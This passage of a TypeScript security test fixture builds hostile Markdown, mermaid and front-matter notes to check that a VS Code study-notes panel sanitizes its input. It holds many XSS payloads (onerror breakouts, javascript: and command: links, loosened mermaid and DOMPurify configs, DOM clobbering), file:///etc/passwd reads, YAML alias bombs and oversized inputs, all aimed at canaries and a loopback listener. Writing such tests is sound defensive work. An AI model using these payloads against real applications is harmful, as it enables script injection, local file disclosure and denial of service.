  ['img-data-svg-script', 'A data: SVG image holding a script.', { payload: `![图](${svgData(`<svg xmlns="http://www.w3.org/2000/svg" onload="${pwn('img-data-svg-script')}"><script>${pwn('img-data-svg-script')}</script></svg>`)})` }],
  ['img-data-html', 'A data: HTML image.', { payload: `![图](data:text/html,%3Cscript%3Ewindow.__pwned%3D'img-data-html'%3C/script%3E)` }],
  ['img-command', 'A command: image.', { payload: '![图](command:workbench.action.files.newUntitledFile)', forbidden: ['img[src^="command:" i]'] }],
  ['img-http', 'An insecure http: image on the loopback listener.', { payload: `![图](${loopback('img-http')})` }],
  ['img-http-uppercase', 'An upper-case HTTP: image.', { payload: `![图](HTTP://127.0.0.1:${P}/pwned/img-http-uppercase)`, forbidden: ['img[src*="/pwned/"]'] }],
  ['img-protocol-relative', 'A protocol-relative image on the loopback listener.', { payload: `![图](//127.0.0.1:${P}/pwned/img-protocol-relative)` }],
  ['img-slash-backslash', 'A /\\ prefix browsers read as protocol-relative.', { payload: `![图](/\\127.0.0.1:${P}/pwned/img-slash-backslash)`, forbidden: ['img[src*="/pwned/"]', 'img[src*="127.0.0.1"]'] }],
  ['img-file', 'A file: image.', { payload: '![图](file:///etc/passwd)' }],
  ['img-relative-traversal', 'A relative image leading out of the note folders.', { payload: '![图](../../../../../../../../etc/passwd)' }],
  ['img-webview-resource-outside', 'A webview resource URL for a file outside the note folders.', { payload: '![图](https://file%2B.vscode-resource.vscode-cdn.net/etc/passwd)' }],
  ['img-vscode-resource-scheme', 'A vscode-resource: URL for a system file.', { payload: '![图](vscode-resource://file///etc/passwd)', forbidden: ['img[src^="vscode-resource:" i]'] }],
  ['img-vscode-webview-resource-scheme', 'A vscode-webview-resource: URL for a system file.', { payload: '![图](vscode-webview-resource://x/file///etc/passwd)', forbidden: ['img[src^="vscode-webview-resource:" i]'] }],
  ['img-html-http', 'An HTML image over http: from the loopback listener.', { payload: `<img src="${loopback('img-html-http')}" alt="图">` }],
  ['img-html-protocol-relative', 'An HTML protocol-relative image.', { payload: `<img src="//127.0.0.1:${P}/pwned/img-html-protocol-relative" alt="图">` }],
  ['img-alt-breakout', 'Alt text that tries to close its attribute.', { payload: `![" onerror="${pwn('img-alt-breakout')}](missing.png)`, forbidden: ['[onerror]'] }],
  ['img-title-breakout', 'An image title that tries to close its attribute.', { payload: `![图](missing.png "\\" onerror=\\"${pwn('img-title-breakout')}")`, forbidden: ['[onerror]'] }],
  ['img-link-wrapped', 'An https image inside a javascript: link.', { payload: `[![图](https://example.com/a.png)](javascript:${pwn('img-link-wrapped')})`, forbidden: LINKY, needsInteraction: true }],
  ['img-reference-http', 'A reference-style image over http:.', { payload: `![图][pic]\n\n[pic]: ${loopback('img-reference-http')}` }],
];

const CODE_FENCE: Row[] = [
  ['fence-info-html', 'An info string that closes its attribute and adds an image.', { payload: fence(`"><img src="x" onerror="${pwn('fence-info-html')}">`, 'print(1)'), forbidden: ['[onerror]'] }],
  ['fence-info-class-breakout', 'An info string that adds an event handler to the class attribute.', { payload: fence(`python" onmouseover="${pwn('fence-info-class-breakout')}`, 'print(2)'), forbidden: ['[onmouseover]'], needsInteraction: true }],
  ['fence-info-script', 'A script element as the info string.', { payload: fence(`<script>${pwn('fence-info-script')}</script>`, 'print(3)'), forbidden: ['script'] }],
  ['fence-info-entities', 'An info string made of character references (CommonMark decodes them).', { payload: fence(`&quot;&gt;&lt;img src=x onerror=&quot;${pwn('fence-info-entities')}&quot;&gt;`, 'print(4)'), forbidden: ['[onerror]'] }],
  ['fence-info-mermaid-html', 'A mermaid info string followed by markup.', { payload: fence(`mermaid"><img src="x" onerror="${pwn('fence-info-mermaid-html')}">`, 'flowchart LR', '  A --> B'), forbidden: ['[onerror]'] }],
  ['fence-info-tilde-backticks', 'A tilde fence whose info string holds backticks and markup.', { payload: ['~~~ `<img src="x" onerror="' + pwn('fence-info-tilde-backticks') + '">`', 'print(5)', '~~~'].join('\n'), forbidden: ['[onerror]'] }],
  ['fence-info-proto', 'A `__proto__` language name (object lookups).', { payload: fence('__proto__', 'print(6)'), traces: ['panel'] }],
  ['fence-info-constructor', 'A constructor language name (object lookups).', { payload: fence('constructor', 'print(7)'), traces: ['panel'] }],
  ['fence-content-html', 'Code that tries to close the <pre> it sits in.', { payload: fence('html', `</code></pre><img src="x" onerror="${pwn('fence-content-html')}">`), forbidden: ['[onerror]'] }],
  ['fence-content-script', 'Highlighted code that tries to close its spans.', { payload: fence('javascript', `</span></code></pre><script>${pwn('fence-content-script')}</script>`), forbidden: ['script'] }],
  ['fence-content-unknown-language', 'Markup in a block of an unknown language.', { payload: fence('nosuchlanguage', `<img src="x" onerror="${pwn('fence-content-unknown-language')}">`), forbidden: ['[onerror]'] }],
];

const FLOW = (label: string): string[] => ['flowchart LR', `  A["${label}"] --> B[终点]`];

const MERMAID_DIRECTIVE: Row[] = [
  ['mermaid-init-loose', 'securityLevel loose and an HTML label with a handler.', { payload: mermaid('%%{init: {"securityLevel": "loose"}}%%', ...FLOW(`<img src=x onerror=${pwn('mermaid-init-loose')}>`)), forbidden: DIAGRAMY }],
  ['mermaid-init-loose-click', 'securityLevel loose and a click callback.', { payload: mermaid('%%{init: {"securityLevel": "loose"}}%%', 'flowchart LR', '  A[点我] --> B[终点]', `  click A call eval("${pwn('mermaid-init-loose-click')}")`), forbidden: DIAGRAMY, needsInteraction: true }],
  ['mermaid-init-htmllabels', 'htmlLabels turned back on, with a form in a label.', { payload: mermaid('%%{init: {"htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%', ...FLOW(`<details open><summary>展开</summary><form action=${loopback('mermaid-init-htmllabels')}><input name=q><button>提交</button></form></details>`)), forbidden: [...DIAGRAMY, '.diagram-output details'] }],
  ['mermaid-init-themecss', 'themeCSS loading from the loopback listener.', { payload: mermaid(`%%{init: {"themeCSS": ".node rect { fill: url(${loopback('mermaid-init-themecss')}) } .label { background-image: url(${loopback('mermaid-init-themecss')}) }"}}%%`, 'flowchart LR', '  A[开始] --> B[结束]'), forbidden: DIAGRAMY }],
  ['mermaid-init-themevariables', 'A theme variable that breaks out of its CSS value.', { payload: mermaid(`%%{init: {"theme": "base", "themeVariables": {"fontSize": "16px; background-image: url(${loopback('mermaid-init-themevariables')})"}}}%%`, 'flowchart LR', '  A[开始] --> B[结束]'), forbidden: DIAGRAMY }],
  ['mermaid-init-fontfamily', 'A font family that breaks out into an @import.', { payload: mermaid(`%%{init: {"fontFamily": "x; } @import url(${loopback('mermaid-init-fontfamily')}); .x {"}}%%`, 'flowchart LR', '  A[开始] --> B[结束]'), forbidden: DIAGRAMY }],
  ['mermaid-init-maxtextsize', 'Raised size limits.', { payload: mermaid('%%{init: {"maxTextSize": 900000000, "maxEdges": 900000}}%%', 'flowchart LR', '  A[开始] --> B[结束]'), traces: ['hang'] }],
  ['mermaid-init-dompurify', 'A DOMPurify configuration that allows scripts and handlers.', { payload: mermaid('%%{init: {"dompurifyConfig": {"ADD_TAGS": ["script", "iframe"], "ADD_ATTR": ["onerror", "onload"], "ALLOW_UNKNOWN_PROTOCOLS": true}, "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%', ...FLOW(`<img src=x onerror=${pwn('mermaid-init-dompurify')}>`)), forbidden: DIAGRAMY }],
  ['mermaid-init-secure-override', 'An empty `secure` list, then securityLevel loose.', { payload: mermaid('%%{init: {"secure": [], "securityLevel": "loose", "htmlLabels": true}}%%', ...FLOW(`<img src=x onerror=${pwn('mermaid-init-secure-override')}>`)), forbidden: DIAGRAMY }],
  ['mermaid-initialize-alias', 'The `initialize` spelling of the directive.', { payload: mermaid('%%{initialize: {"securityLevel": "loose", "htmlLabels": true}}%%', ...FLOW(`<img src=x onerror=${pwn('mermaid-initialize-alias')}>`)), forbidden: DIAGRAMY }],
  ['mermaid-frontmatter-config', 'Configuration in the diagram\'s own front matter.', { payload: mermaid('---', 'config:', '  securityLevel: loose', '  htmlLabels: true', `  themeCSS: ".node rect { fill: url(${loopback('mermaid-frontmatter-config')}) }"`, '---', ...FLOW(`<img src=x onerror=${pwn('mermaid-frontmatter-config')}>`)), forbidden: DIAGRAMY }],
  ['mermaid-init-deterministic-ids', 'Deterministic ids seeded with an id the panel looks up.', { payload: mermaid('%%{init: {"deterministicIds": true, "deterministicIDSeed": "study-notes-strings"}}%%', 'flowchart LR', '  A[开始] --> B[结束]'), traces: ['panel'], forbidden: ['[id^="study-notes-strings"]'] }],
];

const MERMAID_LABEL: Row[] = [
  ['mermaid-label-img', 'An image with a handler in a label.', { payload: mermaid(...FLOW(`<img src=x onerror=${pwn('mermaid-label-img')}>`)), forbidden: DIAGRAMY }],
  ['mermaid-label-script', 'A script in a label.', { payload: mermaid(...FLOW(`<script>${pwn('mermaid-label-script')}</script>`)), forbidden: DIAGRAMY }],
  ['mermaid-label-iframe', 'A frame in a label.', { payload: mermaid(...FLOW(`<iframe src=${loopback('mermaid-label-iframe')}></iframe>`)), forbidden: DIAGRAMY }],
  ['mermaid-label-form', 'A form with inputs and a button in a label.', { payload: mermaid(...FLOW(`<form action=${loopback('mermaid-label-form')}><input name=q><button>提交</button></form>`)), forbidden: DIAGRAMY }],
  ['mermaid-label-a-javascript', 'A javascript: link in a label.', { payload: mermaid(...FLOW(`<a href=javascript:${pwn('mermaid-label-a-javascript')}>点我</a>`)), forbidden: DIAGRAMY, needsInteraction: true }],
  ['mermaid-label-entity-codes', 'Markup spelled with mermaid entity codes (#lt; #gt;), decoded after sanitizing.', { payload: mermaid(...FLOW(`#lt;img src=x onerror=${pwn('mermaid-label-entity-codes')}#gt;`)), forbidden: DIAGRAMY }],
  ['mermaid-label-markdown-string', 'A Markdown string label holding markup.', { payload: mermaid('flowchart LR', `  A["\`**粗体** <img src=x onerror=${pwn('mermaid-label-markdown-string')}>\`"] --> B[终点]`), forbidden: DIAGRAMY }],
  ['mermaid-click-callback', 'A click callback (strict mode must drop it).', { payload: mermaid('flowchart LR', '  A[点我] --> B[终点]', `  click A call eval("${pwn('mermaid-click-callback')}")`), forbidden: DIAGRAMY, needsInteraction: true }],
  ['mermaid-click-href-javascript', 'A click href with javascript:.', { payload: mermaid('flowchart LR', '  A[点我] --> B[终点]', `  click A href "javascript:${pwn('mermaid-click-href-javascript')}"`), forbidden: DIAGRAMY, needsInteraction: true }],
  ['mermaid-click-href-loopback', 'A click href navigating the panel to the loopback listener.', { payload: mermaid('flowchart LR', '  A[点我] --> B[终点]', `  click A href "${loopback('mermaid-click-href-loopback')}" _self`), forbidden: [...DIAGRAMY, '.diagram-output a[*|href*="/pwned/"]'], needsInteraction: true }],
  ['mermaid-style-overlay', 'A node style that pins the node over the whole window.', { traces: ['panel'], payload: mermaid('flowchart LR', '  A[开始] --> B[结束]', '  style A fill:#f00,position:fixed,top:0,left:0,width:100vw,height:100vh,z-index:2147483647'), forbidden: [...DIAGRAMY, '.diagram-output [style*="position" i]'] }],
  ['mermaid-classdef-overlay', 'A classDef whose extra declarations pin nodes over the whole window.', { traces: ['panel'], payload: mermaid('flowchart LR', '  A[开始] --> B[结束]', '  classDef evil fill:red;position:fixed;inset:0;z-index:2147483647', '  class A evil'), forbidden: [...DIAGRAMY, '.diagram-output [style*="position" i]'] }],
  ['mermaid-sequence-html', 'Markup in a sequence diagram\'s participant, message and note.', { payload: mermaid('sequenceDiagram', `  participant A as <img src=x onerror=${pwn('mermaid-sequence-html')}>`, `  A->>B: <img src=x onerror=${pwn('mermaid-sequence-html')}>`, `  Note over A,B: <script>${pwn('mermaid-sequence-html')}</script>`), forbidden: DIAGRAMY }],
  ['mermaid-class-label', 'Markup in a class diagram label and member.', { payload: mermaid('classDiagram', `  class Evil["<img src=x onerror=${pwn('mermaid-class-label')}>"]`, `  Evil : +String <script>${pwn('mermaid-class-label')}</script>`), forbidden: DIAGRAMY }],
  ['mermaid-gantt-click', 'A gantt task with a javascript: click href.', { payload: mermaid('gantt', '  dateFormat YYYY-MM-DD', '  section 阶段', '  任务一 :a1, 2024-01-01, 3d', `  click a1 href "javascript:${pwn('mermaid-gantt-click')}"`), forbidden: DIAGRAMY, needsInteraction: true }],
];

// ---------------------------------------------------------------------------------------------
// Files made of one vector each, whose effect would spread over the whole panel

/** A code block and a diagram after the vector: the panel must still add buttons and draw. */
const PANEL_PROBE = ['```python', 'print("代码按钮必须出现")', '```', '', '```mermaid', 'flowchart LR', '  甲[开始] --> 乙[结束]', '```'].join('\n');
const BROKEN_DIAGRAM = ['```mermaid', 'flowchart LR', '  X[坏图] -->', '```'].join('\n');

const HEADING_ID: Row[] = [
  ['heading-study-notes-strings', 'A heading whose slug is the id of the panel\'s own strings element.', { payload: '## Study Notes Strings', traces: ['panel', 'labels'], forbidden: ['#study-notes-strings'], mustRemainText: ['Study Notes Strings'] }],
  ['heading-diagram-1-0', 'A heading whose slug is mermaid\'s first render id.', { payload: '## Diagram 1 0', traces: ['panel'], forbidden: ['h2#diagram-1-0'], mustRemainText: ['Diagram 1 0'] }],
  ['heading-ddiagram-1-0', 'A heading whose slug is the id the panel removes after a failed diagram.', { payload: '## DDiagram 1 0', traces: ['panel'], forbidden: ['h2#ddiagram-1-0'], mustRemainText: ['DDiagram 1 0'] }],
  ['heading-toc', 'A heading with the id "toc".', { payload: '## toc', traces: ['panel'], forbidden: ['#toc'], mustRemainText: ['toc'] }],
  ['heading-content', 'A heading with the id "content".', { payload: '## content', traces: ['panel'], forbidden: ['#content'], mustRemainText: ['content'] }],
  ['heading-app', 'A heading with the id "app".', { payload: '## app', traces: ['panel'], forbidden: ['#app'], mustRemainText: ['app'] }],
  ['heading-html', 'A heading holding an image with a handler (also shown in the table of contents).', { payload: `## <img src="x" onerror="${pwn('heading-html')}"> 带图片的标题`, forbidden: ['[onerror]'], mustRemainText: ['带图片的标题'] }],
  ['heading-link-javascript', 'A heading holding a javascript: link.', { payload: `## [点我](javascript:${pwn('heading-link-javascript')}) 标题`, forbidden: LINKY, needsInteraction: true }],
  ['heading-duplicate-slugs', 'Repeated headings and one that equals a generated suffix.', { payload: '## 重复\n\n## 重复\n\n## 重复-1', traces: ['panel'], mustRemainText: ['重复-1'] }],
  ['heading-empty-slug', 'A heading with no letters and one named like the fallback slug.', { payload: '## !!!\n\n## section', traces: ['panel'], mustRemainText: ['!!!', 'section'] }],
  ['heading-object-keys', 'Headings named like Object.prototype members.', { payload: '## __proto__\n\n## constructor\n\n## hasOwnProperty', traces: ['panel'], mustRemainText: ['constructor', 'hasOwnProperty'] }],
];

const DOM_CLOBBERING: Row[] = [
  ['clobber-a-id-strings', 'An element with the strings element\'s id, holding JSON labels.', { payload: '<a id="study-notes-strings">{"copy": "PWNED clobber-a-id-strings", "insert": "PWNED", "runnable": "PWNED"}</a>', traces: ['labels', 'panel'], forbidden: ['#study-notes-strings'] }],
  ['clobber-img-name-getelementbyid', 'An image named getElementById (shadows document.getElementById).', { payload: '<img name="getElementById" src="missing.png" alt="c">', traces: ['panel'], forbidden: ['[name]'] }],
  ['clobber-form-name-queryselectorall', 'A form named querySelectorAll.', { payload: '<form name="querySelectorAll"></form>', traces: ['panel'], forbidden: ['form', '[name]'] }],
  ['clobber-id-mermaid', 'An element with the id "mermaid" (a global name the panel reads).', { payload: '<div id="mermaid"></div>', traces: ['panel'], forbidden: ['#mermaid'] }],
  ['clobber-form-attributes', 'Inputs named like DOM properties a sanitizer reads, next to a handler.', { payload: `<form><input name="attributes"><input name="nodeName"><img src="x" onerror="${pwn('clobber-form-attributes')}"></form>`, forbidden: ['form', 'input', '[onerror]'] }],
  ['clobber-main-note-body', 'A second main.note-body with another note id and a scroll target.', { payload: '<main class="note-body" data-note-id="decorator" data-scroll-to="study-notes-strings">假的正文</main>', traces: ['panel'], forbidden: ['main main', '.note-body .note-body'] }],
  ['clobber-data-external', 'A link whose data-external asks the extension to open a command URI.', { payload: '<a href="#" data-external="command:workbench.action.files.newUntitledFile">点我</a>', forbidden: ['[data-external^="command:" i]'], needsInteraction: true }],
  ['clobber-data-note-id', 'A link whose data-note-id is a path.', { traces: ['command'], payload: '<a href="#" data-note-id="../../../etc/passwd">点我</a>', forbidden: ['[data-note-id*="passwd"]'], needsInteraction: true }],
  ['clobber-data-code-action', 'A fake code block and button asking to run code.', { traces: ['command'], payload: '<div class="code-block" data-code-block="0"><button data-code-action="runnable">运行</button></div>', forbidden: ['[data-code-action]:not(.code-actions > button)'], needsInteraction: true }],
];

// ---------------------------------------------------------------------------------------------
// Front matter (one file each) and quiz text

const FRONT_MATTER: Row[] = [
  ['fm-title-en-number', 'titleEn is a number.', { frontMatter: 'id: hostile-fm-title-en-number\ntitle: 英文标题是数字\ntitleEn: 12345' }],
  ['fm-related-string', 'related is a string, not a list.', { frontMatter: 'id: hostile-fm-related-string\ntitle: 相关是字符串\nrelated: decorator' }],
  ['fm-category-array', 'category is a list of numbers.', { frontMatter: 'id: hostile-fm-category-array\ntitle: 分类是数组\ncategory: [1, 2]' }],
  ['fm-tags-mapping', 'tags is a mapping.', { frontMatter: 'id: hostile-fm-tags-mapping\ntitle: 标签是映射\ntags: {a: 1}' }],
  ['fm-quiz-string', 'quiz is a string.', { frontMatter: 'id: hostile-fm-quiz-string\ntitle: 测验是字符串\nquiz: "x"' }],
  ['fm-mapping-key', 'Mappings and sequences used as keys.', { frontMatter: 'id: hostile-fm-mapping-key\ntitle: 映射作为键\n{a: 1}: x\n? [a, b]\n: y' }],
  ['fm-title-number', 'title is a number.', { frontMatter: 'id: hostile-fm-title-number\ntitle: 42' }],
  ['fm-title-empty', 'title is empty.', { frontMatter: 'id: hostile-fm-title-empty\ntitle: ""' }],
  ['fm-title-html', 'title holds markup (tree, panel title, hover, quiz).', { frontMatter: `id: hostile-fm-title-html\ntitle: "<img src=x onerror=${pwn('fm-title-html')}> 标题"` }],
  ['fm-summary-markdown', 'summary holds a command link, markup and Markdown (hover and tooltip).', { frontMatter: `id: hostile-fm-summary-markdown\ntitle: 摘要注入\nsummary: "点击[这里](command:workbench.action.files.newUntitledFile) <img src=x onerror=${pwn('fm-summary-markdown')}> **粗体** [外链](javascript:${pwn('fm-summary-markdown')})"` }],
  ['fm-title-en-command-link', 'titleEn holds a command link (hover and completion).', { frontMatter: 'id: hostile-fm-title-en-command-link\ntitle: 英文标题注入\ntitleEn: "[open](command:workbench.action.files.newUntitledFile)"' }],
  ['fm-order-string', 'order is a string.', { frontMatter: 'id: hostile-fm-order-string\ntitle: 序号是字符串\norder: "1"' }],
  ['fm-id-number', 'id is a number.', { frontMatter: 'id: 42\ntitle: 编号是数字' }],
  ['fm-id-proto', 'id is `__proto__`.', { frontMatter: 'id: __proto__\ntitle: 原型编号' }],
  ['fm-category-proto', 'category is `__proto__`.', { frontMatter: 'id: hostile-fm-category-proto\ntitle: 原型分类\ncategory: __proto__' }],
  ['fm-covers-mapping', 'covers is a mapping.', { frontMatter: 'id: hostile-fm-covers-mapping\ntitle: 覆盖是映射\ncovers: {x: 1}' }],
  ['fm-examples-string', 'examples is a string.', { frontMatter: 'id: hostile-fm-examples-string\ntitle: 示例是字符串\nexamples: run.py' }],
  ['fm-exercises-number', 'exercises is a number.', { frontMatter: 'id: hostile-fm-exercises-number\ntitle: 练习是数字\nexercises: 3' }],
  ['fm-null-fields', 'Fields that are null or lists holding null.', { frontMatter: 'id: hostile-fm-null-fields\ntitle: 空值\ntitleEn: null\ntags: [null, 1]\nrelated: [null]\ncovers: ~' }],
  ['fm-quiz-item-wrong-types', 'A quiz question whose every field has the wrong type.', { frontMatter: 'id: hostile-fm-quiz-item-wrong-types\ntitle: 测验题类型错误\nquiz:\n  - id: 5\n    type: single\n    question: [1]\n    choices: "ab"\n    answer: "0"\n    explanation: {}\n    ref: 7' }],
  ['fm-unknown-tag', 'A YAML tag the parser does not know.', { frontMatter: `id: hostile-fm-unknown-tag\ntitle: !!js/function "function () { ${pwn('fm-unknown-tag')} }"` }],
  ['fm-duplicate-keys', 'The same key twice.', { frontMatter: 'id: hostile-fm-duplicate-keys\ntitle: 第一个\ntitle: 第二个' }],
  ['fm-alias-bomb', 'Nested aliases that expand exponentially.', { frontMatter: 'id: hostile-fm-alias-bomb\ntitle: 别名炸弹\na: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\ne: [*d, *d, *d, *d, *d, *d, *d, *d, *d]' }],
  ['fm-related-to-broken', 'A well-formed note whose related notes have fields of the wrong types.', { frontMatter: 'id: hostile-fm-related-to-broken\ntitle: 关联到坏笔记\nrelated: [hostile-fm-title-en-number, hostile-fm-related-string, hostile-fm-category-array, hostile-fm-tags-mapping]' }],
];

const quizQuestion = (fields: Record<string, unknown>): string =>
  Object.entries(fields).map(([key, value], i) => `${i === 0 ? '  - ' : '    '}${key}: ${JSON.stringify(value)}`).join('\n');

const QUIZ: Row[] = [
  ['quiz-question-html', 'Markup in a question.', { quizItem: quizQuestion({ id: 'hostile-quiz-question-html', type: 'single', question: `<img src="x" onerror="${pwn('quiz-question-html')}"> 哪一项正确？ ${canaryOf('quiz-question-html')}`, choices: ['甲', '乙'], answer: 0, explanation: '因为甲。', ref: '测验' }) }],
  ['quiz-choice-html', 'Markup in a choice.', { quizItem: quizQuestion({ id: 'hostile-quiz-choice-html', type: 'single', question: '选哪个？', choices: [`<script>${pwn('quiz-choice-html')}</script>${canaryOf('quiz-choice-html')}`, `<img src="x" onerror="${pwn('quiz-choice-html')}">乙`], answer: 0, explanation: '因为第一个。', ref: '测验' }) }],
  ['quiz-explanation-markdown', 'A javascript: link and markup in an explanation.', { quizItem: quizQuestion({ id: 'hostile-quiz-explanation-markdown', type: 'truefalse', question: '这是对的吗？', answer: true, explanation: `[点我](javascript:${pwn('quiz-explanation-markdown')}) <img src="x" onerror="${pwn('quiz-explanation-markdown')}"> ${canaryOf('quiz-explanation-markdown')}`, ref: '测验' }) }],
  ['quiz-explanation-command', 'A command link in an explanation.', { quizItem: quizQuestion({ id: 'hostile-quiz-explanation-command', type: 'truefalse', question: '这是错的吗？', answer: false, explanation: `[打开](command:workbench.action.files.newUntitledFile) ${canaryOf('quiz-explanation-command')}`, ref: '测验' }) }],
  ['quiz-code-html', 'An output question whose code and answer hold markup.', { quizItem: quizQuestion({ id: 'hostile-quiz-code-html', type: 'output', question: `下面的代码输出什么？ ${canaryOf('quiz-code-html')}`, code: `print("<img src=x onerror=${pwn('quiz-code-html')}>")\n`, answer: `<img src=x onerror=${pwn('quiz-code-html')}>`, explanation: '原样输出字符串。', ref: '测验' }) }],
  ['quiz-answer-recall-html', 'A recall answer holding an SVG with a handler.', { quizItem: quizQuestion({ id: 'hostile-quiz-answer-recall-html', type: 'recall', question: '说出答案。', answer: `<svg onload="${pwn('quiz-answer-recall-html')}"></svg> ${canaryOf('quiz-answer-recall-html')}`, explanation: '自评。', ref: '测验' }) }],
  ['quiz-question-template', 'Template-injection syntax in a question.', { quizItem: quizQuestion({ id: 'hostile-quiz-question-template', type: 'single', question: `{{constructor.constructor('${pwn('quiz-question-template')}')()}} \${${pwn('quiz-question-template')}} ${canaryOf('quiz-question-template')}`, choices: ['甲', '乙'], answer: 1, explanation: '因为乙。', ref: '测验' }) }],
  ['quiz-ref-html', 'A ref holding markup (it names no heading).', { quizItem: quizQuestion({ id: 'hostile-quiz-ref-html', type: 'truefalse', question: `引用是坏的吗？ ${canaryOf('quiz-ref-html')}`, answer: true, explanation: '是的。', ref: `<img src="x" onerror="${pwn('quiz-ref-html')}">` }) }],
  ['quiz-question-image', 'A Markdown image over http: in a question.', { quizItem: quizQuestion({ id: 'hostile-quiz-question-image', type: 'multiple', question: `![图](${loopback('quiz-question-image')}) 选哪些？ ${canaryOf('quiz-question-image')}`, choices: ['甲', '乙', '丙'], answer: [0, 2], explanation: '甲和丙。', ref: '测验' }) }],
];

// ---------------------------------------------------------------------------------------------
// Generated vectors: very long and deeply nested input, and a NUL byte

interface GeneratedSpec {
  id: string;
  category: HostileCategory;
  description: string;
  traces?: HostileTrace[];
  forbidden?: string[];
  binary?: boolean;
  body: () => string;
}

const GENERATED: GeneratedSpec[] = [
  { id: 'long-line-200k', category: 'long-input', description: 'One 200 KB line of prose.', body: () => '中文和 English 混排的一行很长的文字，'.repeat(3922) },
  { id: 'long-backticks-md', category: 'long-input', description: '`x.md ` followed by 100 KB of backticks.', body: () => `x.md ${'`'.repeat(100_000)}` },
  { id: 'long-backticks-note-link', category: 'long-input', description: 'A note: link followed by 100 KB of backticks.', body: () => `[x](note:y) ${'`'.repeat(100_000)}` },
  { id: 'long-heading-spaces', category: 'long-input', description: '`## a`, 1 MB of spaces, `b`.', body: () => `## a${' '.repeat(1_000_000)}b` },
  { id: 'long-many-headings', category: 'long-input', description: '80,000 `##` headings.', body: () => Array.from({ length: 80_000 }, (_, i) => `## 标题 ${i}`).join('\n') },
  { id: 'long-underscores', category: 'long-input', description: '100 KB of underscores.', body: () => '_'.repeat(100_000) },
  { id: 'long-emphasis-openers', category: 'long-input', description: '50,000 unclosed emphasis openers.', body: () => '*a '.repeat(50_000) },
  { id: 'long-link-destination', category: 'long-input', description: 'A 200 KB link destination.', body: () => `[a](${'a'.repeat(200_000)})` },
  { id: 'long-unclosed-brackets', category: 'long-input', description: '100 KB of opening brackets.', body: () => '['.repeat(100_000) },
  { id: 'long-table-columns', category: 'long-input', description: 'A table with 5,000 columns.', body: () => `${'| a '.repeat(5000)}|\n${'| - '.repeat(5000)}|\n${'| 1 '.repeat(5000)}|` },
  { id: 'long-html-attributes', category: 'long-input', description: 'An element with 20,000 attributes.', body: () => `<div ${'data-a="1" '.repeat(20_000)}>属性</div>` },
  { id: 'long-entities', category: 'long-input', description: '50,000 character references.', body: () => '&amp;'.repeat(50_000) },
  { id: 'long-fence-info', category: 'long-input', description: 'A 100 KB code-fence info string.', body: () => `\`\`\`${'a'.repeat(100_000)}\nprint(1)\n\`\`\`` },
  { id: 'long-mermaid', category: 'long-input', description: 'A 5,000-edge diagram.', body: () => `\`\`\`mermaid\nflowchart LR\n${Array.from({ length: 5000 }, (_, i) => `  n${i} --> n${i + 1}`).join('\n')}\n\`\`\`` },
  { id: 'deep-blockquotes-150', category: 'deep-nesting', description: '150 nested blockquotes.', body: () => `${'>'.repeat(150)} 很深的引用` },
  { id: 'deep-blockquotes-5000', category: 'deep-nesting', description: '5,000 nested blockquotes.', body: () => `${'>'.repeat(5000)} 极深的引用` },
  { id: 'deep-lists-150', category: 'deep-nesting', description: '150 nested list items.', body: () => Array.from({ length: 150 }, (_, i) => `${'  '.repeat(i)}- 第 ${i + 1} 层`).join('\n') },
  { id: 'deep-mixed-containers', category: 'deep-nesting', description: 'Blockquotes and list items alternating 150 levels deep.', body: () => `${'> - '.repeat(75)}混合嵌套` },
  { id: 'deep-emphasis', category: 'deep-nesting', description: '5,000 nested emphasis spans.', body: () => `${'*a '.repeat(5000)}中心${' a*'.repeat(5000)}` },
  { id: 'deep-brackets', category: 'deep-nesting', description: '10,000 nested brackets around a link.', body: () => `${'['.repeat(10_000)}x${']'.repeat(10_000)}(https://example.com/)` },
  { id: 'deep-parentheses-destination', category: 'deep-nesting', description: 'A link destination with 5,000 nested parentheses.', body: () => `[a](${'('.repeat(5000)}${')'.repeat(5000)})` },
  { id: 'deep-html-divs', category: 'deep-nesting', description: '2,000 nested <div> elements.', body: () => `${'<div>'.repeat(2000)}深层${'</div>'.repeat(2000)}` },
  { id: 'deep-inline-spans', category: 'deep-nesting', description: '5,000 nested inline <span> elements in a paragraph.', body: () => `文字 ${'<span>'.repeat(5000)}深层${'</span>'.repeat(5000)} 文字` },
  { id: 'deep-mermaid-subgraphs', category: 'deep-nesting', description: '60 nested mermaid subgraphs.', body: () => `\`\`\`mermaid\nflowchart LR\n${Array.from({ length: 60 }, (_, i) => `${'  '.repeat(i + 1)}subgraph s${i}`).join('\n')}\n${'  '.repeat(61)}a --> b\n${Array.from({ length: 60 }, (_, i) => `${'  '.repeat(60 - i)}end`).join('\n')}\n\`\`\`` },
  { id: 'link-javascript-null-byte', category: 'link-scheme', description: 'A literal NUL byte inside the scheme (`java\\0script:`). The file is not text: the product must report it, not render it.', binary: true, traces: ['global'], body: () => `[点我](java\u0000script:${pwn('link-javascript-null-byte')})` },
];

// ---------------------------------------------------------------------------------------------
// Assembling files and the manifest

const INTRO = '本笔记用于安全测试：每一段都试图执行代码、加载外部内容或破坏页面；紧随其后的 CANARY 段落必须正常显示，而且什么都不能执行。';

interface Group {
  file: string;
  title: string;
  category: HostileCategory;
  rows: Row[];
  /** Selectors, traces and interaction every vector of the group gets. */
  forbidden?: string[];
  traces?: HostileTrace[];
  needsInteraction?: boolean;
  /** One file per vector: `${dir}/${id}.md`. */
  each?: boolean;
  outro?: (row: Row) => string;
  expectRender?: (row: Row) => { diagrams: number; failed: number };
}

const GROUPS: Group[] = [
  { file: 'raw-html-script.md', title: '恶意 HTML：脚本与事件处理器', category: 'raw-html', rows: RAW_HTML_SCRIPT, forbidden: SCRIPTY },
  { file: 'raw-html-embed.md', title: '恶意 HTML：框架、对象与外部资源', category: 'raw-html', rows: RAW_HTML_EMBED, forbidden: SCRIPTY },
  { file: 'raw-html-math-template.md', title: '恶意 HTML：MathML 与 template', category: 'raw-html', rows: RAW_HTML_MATH_TEMPLATE, forbidden: SCRIPTY },
  { file: 'raw-html-base.md', title: '恶意 HTML：base', category: 'raw-html', rows: RAW_HTML_BASE },
  { file: 'raw-html-meta-refresh.md', title: '恶意 HTML：meta 刷新', category: 'raw-html', rows: RAW_HTML_META },
  { file: 'mutation-xss.md', title: '变异 XSS', category: 'mutation-xss', rows: MUTATION_XSS, forbidden: SCRIPTY },
